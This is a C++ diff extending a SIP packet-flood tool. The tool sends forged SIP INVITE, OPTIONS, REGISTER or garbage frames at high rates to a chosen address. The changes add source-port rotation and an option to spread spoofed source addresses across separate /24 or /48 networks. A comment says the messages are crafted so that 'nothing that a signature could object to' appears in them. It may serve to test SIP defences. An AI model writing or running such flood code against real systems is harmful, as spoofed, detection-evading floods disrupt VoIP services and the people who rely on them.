@@ -43,6 +43,8 @@ struct Options {
   std::string from;
   std::string kind = "invite";
   std::uint32_t sources = 1;
+  bool apart = false;  // each source in a net of its own
+  std::uint16_t ports = 1;
   std::uint16_t port = 5060;
   unsigned seconds = 1;
   std::uint64_t packets = UINT64_MAX;
@@ -82,11 +84,13 @@ std::string scanner_message(const std::string& host, const std::string& serial) 
          ":5060\r\nCSeq: 1 OPTIONS\r\nAccept: application/sdp\r\nContent-Length: 0\r\n\r\n";
 }
 
-// Nothing that a signature could object to: an ordinary call to a number nobody has.
-std::string invite_message(const std::string& host, const std::string& serial) {
-  return "INVITE sip:7000@" + host + " SIP/2.0\r\nVia: SIP/2.0/UDP " + host + ":5060;branch=z9hG4bK" +
-         serial + ";rport\r\nMax-Forwards: 70\r\nTo: <sip:7000@" + host + ">\r\nFrom: <sip:6000@" + host +
-         ">;tag=" + serial + "\r\nCall-ID: " + serial + "\r\nCSeq: 1 INVITE\r\nContact: <sip:6000@" + host +
+// Nothing that a signature could object to: what an ordinary phone might send.
+std::string request(const std::string& method, const std::string& user, const std::string& host,
+                    const std::string& serial) {
+  const std::string target = "sip:" + user + "@" + host;
+  return method + " " + target + " SIP/2.0\r\nVia: SIP/2.0/UDP " + host + ":5060;branch=z9hG4bK" + serial +
+         ";rport\r\nMax-Forwards: 70\r\nTo: <" + target + ">\r\nFrom: <sip:6000@" + host + ">;tag=" + serial +
+         "\r\nCall-ID: " + serial + "\r\nCSeq: 1 " + method + "\r\nContact: <sip:6000@" + host +
          ":5060>\r\nUser-Agent: Yealink SIP-T46S 66.84.0.15\r\nAllow: INVITE, ACK, CANCEL, BYE\r\n"
          "Supported: replaces\r\nContent-Length: 0\r\n\r\n";
 }
@@ -94,7 +98,10 @@ std::string invite_message(const std::string& host, const std::string& serial) {
 std::string message(const std::string& kind, const std::string& to) {
   const std::string serial(kSerialMark);
   if (kind == "scanner") return scanner_message(host_of(to), serial);
-  if (kind == "invite") return invite_message(host_of(to), serial);
+  if (kind == "invite") return request("INVITE", "7000", host_of(to), serial);
+  if (kind == "options") return request("OPTIONS", "7000", host_of(to), serial);
+  // Of a user that exists: the answer is a challenge, and no offence.
+  if (kind == "register") return request("REGISTER", "101", host_of(to), serial);
   std::string garbage(400, '\0');
   std::mt19937 random{1};
   for (char& c : garbage) c = static_cast<char>(random() % 255 + 1);
@@ -125,7 +132,8 @@ std::uint16_t fold(std::uint64_t total) {
 // One Ethernet frame with a SIP datagram; source address and serial are set anew before each send.
 class Frame {
  public:
-  explicit Frame(const Options& options) : v6_(is_v6(options.to)), source_(bytes_of(options.from)) {
+  explicit Frame(const Options& options)
+      : v6_(is_v6(options.to)), apart_(options.apart), source_(bytes_of(options.from)) {
     const std::string payload = message(options.kind, options.to);
     for (std::size_t at = payload.find(kSerialMark); at != std::string::npos;
          at = payload.find(kSerialMark, at + kSerialMark.size())) {
@@ -140,8 +148,9 @@ class Frame {
 
   [[nodiscard]] std::string& bytes() { return bytes_; }
 
-  void set(std::uint32_t source_offset, std::uint64_t serial) {
-    set_source(source_offset);
+  void set(std::uint32_t source_number, std::uint16_t port, std::uint64_t serial) {
+    set_source(source_number);
+    put16(udp_at(), htons(port));
     std::array<char, 17> text{};
     std::snprintf(text.data(), text.size(), "%016lx", static_cast<unsigned long>(serial));
     for (const std::size_t at : serials_)
@@ -193,12 +202,14 @@ class Frame {
     append16(0);
   }
 
-  void set_source(std::uint32_t offset) {
-    std::uint32_t low = 0;
-    const std::size_t low_at = source_.size() - 4;
-    std::memcpy(&low, source_.data() + low_at, 4);
-    low = htonl(ntohl(low) + offset);
-    std::memcpy(bytes_.data() + source_at() + low_at, &low, 4);
+  // One after the other; or apart, the next /24 (IPv4) or /48 (IPv6) each time.
+  void set_source(std::uint32_t number) {
+    std::uint32_t word = 0;
+    const std::size_t word_at = v6_ ? (apart_ ? 4 : 12) : 0;
+    const unsigned shift = apart_ ? (v6_ ? 16 : 8) : 0;
+    std::memcpy(&word, source_.data() + word_at, 4);
+    word = htonl(ntohl(word) + (number << shift));
+    std::memcpy(bytes_.data() + source_at() + word_at, &word, 4);
   }
 
   void set_checksums() {
@@ -215,6 +226,7 @@ class Frame {
   }
 
   bool v6_;
+  bool apart_;
   std::string source_;
   std::string bytes_;
   std::vector<std::size_t> serials_;
@@ -295,7 +307,7 @@ class Flood {
     for (std::size_t i = 0; i < size; ++i) {
       const std::uint64_t n = totals.sent + i;
       const auto source = static_cast<std::uint32_t>(n < options_.sources ? n : random_() % options_.sources);
-      frames_[i].set(source, ++serial_);
+      frames_[i].set(source, static_cast<std::uint16_t>(options_.port + n % options_.ports), ++serial_);
     }
     const int sent = sendmmsg(fd_, messages_.data(), static_cast<unsigned>(size), 0);
     if (sent < 0) {
@@ -328,8 +340,13 @@ void describe(CLI::App& app, Options& options) {
   app.add_option("--to", options.to, "the address to flood")->required();
   app.add_option("--from", options.from, "the first source address")->required();
   app.add_option("--sources", options.sources, "how many source addresses")->check(CLI::Range(1U, 1U << 24));
-  app.add_option("--kind", options.kind)->check(CLI::IsMember({"scanner", "invite", "garbage"}));
-  app.add_option("--port", options.port);
+  app.add_option("--kind", options.kind)
+      ->check(CLI::IsMember({"scanner", "register", "invite", "options", "garbage"}));
+  app.add_flag("--apart", options.apart,
+               "each source in a net of its own: the next /24 or /48, not the next address");
+  app.add_option("--port", options.port, "to send to, and the first to send from");
+  app.add_option("--ports", options.ports, "how many ports to send from, by turns")
+      ->check(CLI::Range(1, 10000));
   app.add_option("--seconds", options.seconds)->check(CLI::Range(1U, kSecondsMax));
   app.add_option("--packets", options.packets, "stop after this many");
   app.add_option("--pps", options.pps, "packets a second; 0: as many as there is room for");
